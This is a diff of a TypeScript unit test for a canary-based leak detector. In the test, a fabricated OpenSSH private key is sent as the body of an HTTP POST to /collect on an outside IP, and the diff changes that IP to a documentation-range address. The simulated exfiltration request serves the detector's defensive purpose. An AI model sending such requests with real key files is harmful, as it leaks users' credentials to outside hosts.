@@ -26,7 +26,7 @@ function pseudoRandomBytes(size: number, seed: string): Buffer {
 describe('CanaryMatcher: raw and partial leaks', () => {
   it('finds a whole key file sent as an HTTP POST body', () => {
     const file = `-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE${SSH_BODY.slice(0, 51)}\n${SSH_BODY.slice(51)}\n-----END OPENSSH PRIVATE KEY-----\n`
-    const payload = `POST /collect HTTP/1.1\r\nHost: 93.184.216.34\r\nContent-Length: ${file.length}\r\n\r\n${file}`
+    const payload = `POST /collect HTTP/1.1\r\nHost: 203.0.113.34\r\nContent-Length: ${file.length}\r\n\r\n${file}`
     expect(matcher.scan(Buffer.from(payload))).toEqual([{ canary: '~/.ssh/id_rsa', encoding: 'raw' }])
   })
 
